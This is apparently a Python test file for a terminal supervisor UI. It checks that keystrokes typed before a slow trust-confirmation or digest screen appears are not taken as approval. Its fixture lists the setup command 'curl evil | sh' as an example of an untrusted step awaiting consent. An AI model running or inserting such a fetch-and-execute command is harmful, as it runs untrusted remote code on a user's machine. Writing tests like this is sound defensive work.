"""A question whose answer was long in coming takes no keys that are meant for something else."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import TypeVar

from cockpit.domain.activity import State
from cockpit.domain.digest import Digest, Line, News, seen_now
from cockpit.domain.ids import LaneId
from cockpit.domain.intents import Trust
from cockpit.services.api import Cockpit, TrustState
from cockpit.ui.screens.confirm import ConfirmScreen
from cockpit.ui.screens.digest import DigestScreen
from tests.ui.drive import opened
from tests.ui.fake import NOW, FakeSupervisor, fleet_of, view

T = TypeVar("T")


class Slow(FakeSupervisor):
    """Answers once `gate` is open."""

    gate: asyncio.Event | None = None

    def ask(self, query: Callable[[Cockpit], T]) -> Awaitable[T]:
        async def answer() -> T:
            if self.gate is not None:
                await self.gate.wait()
            await asyncio.sleep(0)
            return query(self.cockpit)

        return answer()


async def test_trust_is_not_said_by_a_yes_to_an_agent() -> None:
    fleet = fleet_of(view("alpha", 1, State.ASKING))
    slow = Slow(fleet)
    async with opened(fleet, supervisor=slow) as session:
        slow.gate = asyncio.Event()
        slow.fake.trusted = TrustState("d2", False, ("setup.run: curl evil | sh",))
        session.app.do(session.app.config_news._ask())
        await session.press("i")
        slow.gate.set()
        await session.settle()
        await session.press("y")
        assert slow.intents == []
        assert slow.fake_live.typed == [("%1", "y")]


async def test_a_yes_on_its_way_is_no_trust() -> None:
    fleet = fleet_of(view("alpha", 1, State.ASKING))
    async with opened(fleet) as session:
        fake = session.supervisor
        fake.fake.trusted = TrustState("d2", False, ("setup.run: curl evil | sh",))
        session.app.do(session.app.config_news._ask())
        await session.until(lambda: isinstance(session.app.screen, ConfirmScreen))
        await session.pilot.press("y")
        await session.pilot.press("y", "enter", "y")
        assert isinstance(session.app.screen, ConfirmScreen) and fake.intents == []
        assert "yes, trust it" not in session.text(), "it names no key that it does not take"
        await session.settle()
        assert "yes, trust it" in session.text()
        await session.press("y")
        assert fake.intents == [Trust("d2")]


async def test_a_question_that_was_asked_for_takes_keys_at_once() -> None:
    fleet = fleet_of(view("alpha", 1))
    async with opened(fleet) as session:
        fake = session.supervisor
        fake.fake.trusted = TrustState("d2", False, ("setup.run: make",))
        session.app.perform("trust")
        await session.until(lambda: isinstance(session.app.screen, ConfirmScreen))
        assert "yes, trust it" in session.text()
        await session.pilot.press("y")
        await session.until(lambda: fake.intents == [Trust("d2")])


async def test_an_enter_on_its_way_does_not_close_the_digest() -> None:
    fleet = fleet_of(view("alpha", 1))
    async with opened(fleet) as session:
        fake = session.supervisor
        line = Line(News.LANDED, LaneId("alpha"), "land alpha", NOW - 60)
        fake.fake.answers["digest"] = Digest(NOW - 600, (line,))
        session.app.do(session.app.away.tell(seen_now(fleet, NOW - 600), asked=False))
        await session.until(lambda: isinstance(session.app.screen, DigestScreen))
        await session.pilot.press("enter", "escape")
        assert isinstance(session.app.screen, DigestScreen)
        await session.press("escape")
        await session.press("escape")
        assert not session.app.screen.is_modal


async def test_parking_is_not_said_by_the_text_of_a_prompt() -> None:
    fleet = fleet_of(view("alpha", 1))
    slow = Slow(fleet)
    async with opened(fleet, supervisor=slow) as session:
        slow.gate = asyncio.Event()
        await session.press("p", "o", *"hurr")
        slow.gate.set()
        await session.settle()
        await session.press("y")
        assert slow.intents == []
        assert "hurry" in session.text()
